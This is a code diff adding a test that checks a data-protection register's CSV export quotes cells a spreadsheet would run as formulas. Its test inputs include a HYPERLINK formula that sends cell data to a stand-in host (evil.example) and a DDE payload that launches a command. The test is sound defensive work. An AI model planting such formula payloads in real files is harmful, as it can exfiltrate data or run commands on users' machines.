@@ -419,6 +419,32 @@ def test_ropa_names_a_transfer_outside_the_eea(tmp_path: Path) -> None:
     assert rows[1]["transfers"] == "no transfers outside the EU or the EEA"
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"K-Systems")',
+        "+358 40 123 4567",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_ropa_csv_cells_never_start_a_formula(tmp_path: Path, name: str) -> None:
+    """A text that a spreadsheet would run as a formula starts with a quote (OWASP), and the
+    CSV stays one row a register, each cell as written after the quote."""
+    path = tmp_path / "policy.yaml"
+    text = K_POLICY.read_text(encoding="utf-8")
+    quoted = (
+        name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
+    )
+    path.write_text(text.replace("  name: K-Systems Contacts Oy\n", f'  name: "{quoted}"\n', 1))
+    rows = _ropa_rows(load_policy(path).model, "en")
+    assert rows[0]["controller"].startswith(f"'{name},")
+    starts = {cell[:1] for row in rows for cell in row.values()}
+    assert starts.isdisjoint({"=", "+", "-", "@", "\t", "\r"})
+
+
 def test_ropa_markdown_has_a_table_per_paragraph(capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["render", "ropa", str(K_POLICY), "--format", "md", "--lang", "en"]) == 0
     out = capsys.readouterr().out
